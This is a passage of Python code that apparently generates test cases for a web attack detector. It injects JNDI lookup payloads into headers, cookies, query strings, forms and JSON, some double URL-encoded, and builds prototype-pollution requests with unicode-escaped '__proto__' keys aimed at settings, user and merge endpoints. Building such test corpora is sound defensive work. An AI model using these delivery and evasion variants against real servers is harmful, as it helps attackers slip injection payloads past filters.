    b = Builder(rng, "jndi_injection")
    for p in JNDI:
        choices = ["ua", "xff", "custom", "query", "json", "form", "cookie", "referer", "multipart", "double"]
        rng.shuffle(choices)
        for placement in choices[:7]:
            if placement == "ua":
                b.header(p, "user-agent")
            elif placement == "xff":
                b.header(p, "x-forwarded-for")
            elif placement == "custom":
                b.header(p, rng.choice(["x-api-version", "x-request-id", "accept", "authorization", "x-client-version"]))
            elif placement == "referer":
                b.header("https://shop.example.com/?q=" + p, "referer")
            elif placement == "query":
                b.query(p, param=rng.choice(["q", "name", "lang"]))
            elif placement == "double":
                b.query(enc_query(enc_query(p)), raw_encoded=True)
            elif placement == "json":
                b.json(p, key="username")
            elif placement == "form":
                b.form(p, field="username")
            elif placement == "cookie":
                b.cookie(p)
            elif placement == "multipart":
                b.multipart(p, field="comment")
    out["jndi_injection"] = b.cases

    b = Builder(rng, "prototype_pollution")
    for q in PROTO_PARAMS:
        b.add("GET", "/api/v1/settings?" + q, note="query")
        b.add("GET", "/api/v1/settings?" + urllib.parse.quote(q, safe="=&"), note="query-encoded")
        b.add("POST", "/api/v1/settings", [["content-type", "application/x-www-form-urlencoded"]], q, note="form")
    for doc in PROTO_JSON:
        b.json_doc(doc, url="/api/v1/settings")
        b.add("PATCH", "/api/v1/users/42", [["content-type", "application/json"]], json.dumps({"profile": doc}), note="json-nested")
        b.query(json.dumps(doc), param="data")
        raw = json.dumps(doc).replace("__proto__", "\\u005f\\u005fproto\\u005f\\u005f")
        b.add("POST", "/api/v1/merge", [["content-type", "application/json"]], raw, note="json-escaped-key")
    out["prototype_pollution"] = b.cases
    return out
